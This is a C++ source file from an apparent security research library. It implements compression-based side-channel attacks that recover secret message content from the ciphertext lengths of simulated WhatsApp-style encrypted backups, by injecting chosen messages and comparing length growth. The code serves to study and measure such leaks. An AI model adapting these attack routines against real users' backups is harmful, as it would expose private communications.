// Copyright 2026 The Leaklab Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include <algorithm>
#include <cmath>

#include "leaklab/attacks.hpp"
#include "leaklab/errors.hpp"

namespace leaklab::attacks {

bool StringDictionary::uniform_length() const {
  for (const auto& c : candidates)
    if (c.size() != candidates[0].size()) return false;
  return true;
}

size_t StringDictionary::max_length() const {
  size_t m = 0;
  for (const auto& c : candidates) m = std::max(m, c.size());
  return m;
}

ConstraintVerdict check_constraints(size_t v_len, size_t dict_size,
                                    ZlibStrategy strategy) {
  size_t budget =
      strategy == ZlibStrategy::kBruteForce ? kZlibWindow : kZlibWindow / 2;
  if ((v_len + kEpsilonMax) * dict_size >= budget)
    return ConstraintVerdict::kWindowOverflow;
  return ConstraintVerdict::kOk;
}

namespace {

size_t observe_len(const BackupObservation& obs) {
  return obs.whatsapp->ciphertext_len;
}

// Index of the smallest score, ties broken uniformly so a flat signal
// degrades to chance rather than to a fixed pick.
size_t argmin_random(const std::vector<double>& scores, Rng& rng) {
  double best = *std::min_element(scores.begin(), scores.end());
  std::vector<size_t> mins;
  for (size_t i = 0; i < scores.size(); ++i)
    if (scores[i] <= best + 1e-9) mins.push_back(i);
  return mins[rng.below(mins.size())];
}

int rounds_for(size_t n) {
  int r = 0;
  size_t span = 1;
  while (span < n) {
    span *= 2;
    r++;
  }
  return r;
}

// Confirmation threshold for a single-candidate dictionary: the adversary
// replays the inject-and-measure step against local clients, with and
// without the candidate planted, and splits the two growth means.
double calibrate_confirmation_threshold(size_t v_len, Rng& rng) {
  WhatsAppBackupConfig wa;
  double matched_sum = 0, unmatched_sum = 0;
  const int kSamples = 8;
  for (int s = 0; s < kSamples; ++s) {
    for (int matched = 0; matched < 2; ++matched) {
      Client local(ClientConfig{}, rng.next());
      int64_t ts = 0;
      for (int i = 0; i < 5; ++i)
        local.receive(InboundMessage::text("peer", rng.alnum(40), ++ts));
      std::string planted = rng.alnum(v_len);
      local.receive(InboundMessage::text("peer", planted, ++ts));
      Key256 key{};
      Rng nonce_rng(rng.next());
      size_t before =
          whatsapp_make_backup(local, wa, key, 0, nonce_rng).ciphertext_len();
      local.receive(InboundMessage::text(
          "adv", matched ? planted : rng.alnum(v_len), ++ts));
      size_t after =
          whatsapp_make_backup(local, wa, key, 1, nonce_rng).ciphertext_len();
      double growth = static_cast<double>(after) - static_cast<double>(before);
      (matched ? matched_sum : unmatched_sum) += growth;
    }
  }
  return (matched_sum + unmatched_sum) / (2 * kSamples);
}

}  // namespace

AttackTranscript zlib_bruteforce(BackupOracle& oracle,
                                 const StringDictionary& dictionary, Rng& rng) {
  const auto& cands = dictionary.candidates;
  if (cands.empty()) throw Error("zlib attack: empty dictionary");
  if (check_constraints(dictionary.max_length(), cands.size(),
                        ZlibStrategy::kBruteForce) != ConstraintVerdict::kOk)
    throw WindowOverflow("dictionary does not fit the compression window");

  AttackTranscript t;
  t.message_bound = static_cast<int>(cands.size());
  t.backup_bound = static_cast<int>(cands.size()) + 1;

  size_t prev = observe_len(oracle.next_backup());
  t.backups_seen++;

  if (cands.size() == 1) {
    double tau = calibrate_confirmation_threshold(cands[0].size(), rng);
    oracle.inject(InboundMessage::text("adv", cands[0]));
    t.messages_sent++;
    size_t len = observe_len(oracle.next_backup());
    t.backups_seen++;
    double growth = static_cast<double>(len) - static_cast<double>(prev);
    t.log("confirmation growth=" + std::to_string(growth) +
          " tau=" + std::to_string(tau));
    t.answer = growth < tau ? "present" : "absent";
    t.enforce();
    return t;
  }

  bool uniform = dictionary.uniform_length();
  std::vector<double> scores;
  for (const auto& v : cands) {
    oracle.inject(InboundMessage::text("adv", v));
    t.messages_sent++;
    size_t len = observe_len(oracle.next_backup());
    t.backups_seen++;
    double growth = static_cast<double>(len) - static_cast<double>(prev);
    prev = len;
    // Mixed-length dictionaries are scored net of their own size so longer
    // candidates are not penalized for the bytes they add.
    scores.push_back(uniform ? growth : growth - static_cast<double>(v.size()));
    t.log("inject len=" + std::to_string(v.size()) +
          " growth=" + std::to_string(growth));
  }

  t.answer = "candidate:" + std::to_string(argmin_random(scores, rng));
  t.enforce();
  return t;
}

AttackTranscript zlib_binary(BackupOracle& oracle,
                             const StringDictionary& dictionary,
                             const SubstringParams& params, Rng& rng) {
  const auto& cands = dictionary.candidates;
  if (cands.empty()) throw Error("zlib attack: empty dictionary");
  if (!dictionary.uniform_length())
    throw Error("binary strategy needs equal-length candidates");
  size_t v_len = cands[0].size();
  if (check_constraints(v_len, cands.size(), ZlibStrategy::kBinary) !=
      ConstraintVerdict::kOk)
    throw WindowOverflow("dictionary does not fit the halving budget");

  AttackTranscript t;
  int rounds = rounds_for(cands.size());
  t.message_bound = 2 * rounds;
  t.backup_bound = 2 * rounds + 1;

  // Substring plan: round r sends chunk r of each candidate, so repeated
  // rounds only ever re-match the target once. Needs
  // (rounds-1)*(len-overlap) + len <= |v| with chunks of at least 4 bytes.
  size_t chunk_len = params.len;
  size_t stride = 0;
  bool substrings = params.enabled && rounds > 1;
  if (substrings) {
    if (chunk_len == 0) {
      chunk_len = std::max<size_t>(4, std::min<size_t>(8, v_len / rounds));
      stride = rounds > 1 ? (v_len - chunk_len) / (rounds - 1) : 0;
    } else {
      if (params.overlap >= chunk_len)
        throw Error("substring overlap must be below the chunk length");
      stride = chunk_len - params.overlap;
    }
    if (chunk_len < 4 || chunk_len > v_len ||
        (rounds - 1) * stride + chunk_len > v_len || stride == 0) {
      substrings = false;
      t.log("SubstringInfeasible: falling back to whole-candidate halves");
      t.failure_reason = "SubstringInfeasible";
    }
  }

  size_t prev = observe_len(oracle.next_backup());
  t.backups_seen++;

  std::vector<size_t> active(cands.size());
  for (size_t i = 0; i < active.size(); ++i) active[i] = i;

  for (int r = 0; active.size() > 1; ++r) {
    size_t half = active.size() / 2;
    std::vector<std::vector<size_t>> halves = {
        {active.begin(), active.begin() + half},
        {active.begin() + half, active.end()}};

    std::vector<double> growth(2);
    for (int h = 0; h < 2; ++h) {
      std::string body;
      for (size_t idx : halves[h]) {
        const std::string& v = cands[idx];
        if (!body.empty()) body.push_back('\n');
        body += substrings ? v.substr(r * stride, chunk_len) : v;
      }
      oracle.inject(InboundMessage::text("adv", body));
      t.messages_sent++;
      size_t len = observe_len(oracle.next_backup());
      t.backups_seen++;
      growth[h] = static_cast<double>(len) - static_cast<double>(prev);
      prev = len;
    }
    t.log("round " + std::to_string(r) + ": growth " +
          std::to_string(growth[0]) + " vs " + std::to_string(growth[1]));
    int pick = growth[0] < growth[1]   ? 0
               : growth[1] < growth[0] ? 1
                                       : static_cast<int>(rng.below(2));
    active = halves[pick];
  }

  t.answer = "candidate:" + std::to_string(active[0]);
  t.enforce();
  return t;
}

}  // namespace leaklab::attacks
